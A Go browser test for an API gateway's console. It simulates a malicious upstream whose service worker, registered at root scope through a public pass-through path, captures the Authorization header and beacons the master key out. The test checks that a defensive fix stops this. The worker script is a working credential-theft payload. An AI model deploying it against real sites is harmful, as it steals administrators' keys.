package console_test

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/keywaygw/keyway/shared/app"
)

// TestAttackServiceWorkerStealsMasterKey (real browser): the full chain of
// gateway TestAttackUpstreamCanRegisterRootServiceWorkerOverConsole. A
// malicious upstream behind a public pass-through endpoint (/docs, auth:
// false) serves an HTML page and a worker script with
// "Service-Worker-Allowed: /". An admin opens one link to /docs/… on the
// gateway; later the same admin opens the console at /ui/ and signs in
// with the master key. The worker, scope "/", sees the console's API
// fetches and replays their Authorization header to the upstream: the
// master key is stolen, despite the console's CSP (which binds the page,
// not the worker) and its sessionStorage-only key.
func TestAttackServiceWorkerStealsMasterKey(t *testing.T) {
	if testing.Short() {
		t.Skip("browser test")
	}
	exe := chromium(t)
	var mu sync.Mutex
	var stolen []string
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasSuffix(r.URL.Path, "/sw.js"):
			w.Header().Set("Content-Type", "text/javascript")
			w.Header().Set("Service-Worker-Allowed", "/")
			io.WriteString(w, `self.addEventListener('install', e => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', e => {
  const a = e.request.headers.get('Authorization');
  if (a) fetch('/docs/steal?k=' + encodeURIComponent(a));
});`)
		case strings.HasSuffix(r.URL.Path, "/steal"):
			mu.Lock()
			stolen = append(stolen, r.URL.Query().Get("k"))
			mu.Unlock()
		default:
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, `<!doctype html><title>docs</title><script>navigator.serviceWorker.register('./sw.js', {scope: '/'})</script>`)
		}
	}))
	defer up.Close()
	dir := t.TempDir()
	cfg := filepath.Join(dir, "config.yaml")
	os.WriteFile(cfg, []byte(fmt.Sprintf(`
general_settings:
  master_key: os.environ/KEYWAY_MASTER_KEY
  pass_through_endpoints:
    - path: /docs
      target: %s
      include_subpath: true
      auth: false
      methods: [GET]
`, up.URL)), 0o600)
	env := map[string]string{app.EnvConfig: cfg, app.EnvStore: "bolt:" + filepath.Join(dir, "k.db"), "KEYWAY_MASTER_KEY": masterKey}
	a, err := app.Build(context.Background(), app.Options{Getenv: func(k string) string { return env[k] }, Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(a.Handler)
	defer func() { srv.Close(); a.Close() }()

	allocCtx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(exe), chromedp.NoSandbox, chromedp.DisableGPU, chromedp.Flag("disable-dev-shm-usage", true))...)
	defer cancelAlloc()
	ctx, cancel := chromedp.NewContext(allocCtx)
	defer cancel()
	ctx, cancelT := context.WithTimeout(ctx, 90*time.Second)
	defer cancelT()

	if err := chromedp.Do(ctx, chromedp.Navigate(srv.URL+"/docs/getting-started.html")); err != nil {
		t.Fatalf("visiting the upstream page: %v", err)
	}
	// The upstream page is sandboxed now (no script origin, so no
	// serviceWorker), and its worker script is refused: registration
	// fails. Whatever happens, the check below is what counts.
	scope, err := chromedp.Run(ctx, chromedp.Evaluate[string](`(async () => {
  try {
    const r = await Promise.race([navigator.serviceWorker.ready, new Promise((_, no) => setTimeout(() => no('none'), 3000))]);
    return r.scope;
  } catch (e) { return ''; }
})()`, chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatalf("probing for a worker: %v", err)
	}
	t.Logf("service worker registered from /docs/: scope %q", scope)

	if err := chromedp.Do(ctx,
		chromedp.Navigate(srv.URL+"/ui/"),
		chromedp.WaitVisible("#login-key"),
		chromedp.SendKeys("#login-key", masterKey),
		chromedp.Click(`#login-form button[type=submit]`),
		chromedp.Sleep(2*time.Second),
	); err != nil {
		t.Fatalf("console sign-in: %v", err)
	}
	mu.Lock()
	defer mu.Unlock()
	for _, k := range stolen {
		if strings.Contains(k, masterKey) {
			t.Errorf("the upstream received the master key from a service worker it installed over /ui/: %q (scope %s)", k, scope)
			return
		}
	}
	t.Logf("nothing stolen (%d beacons)", len(stolen))
}
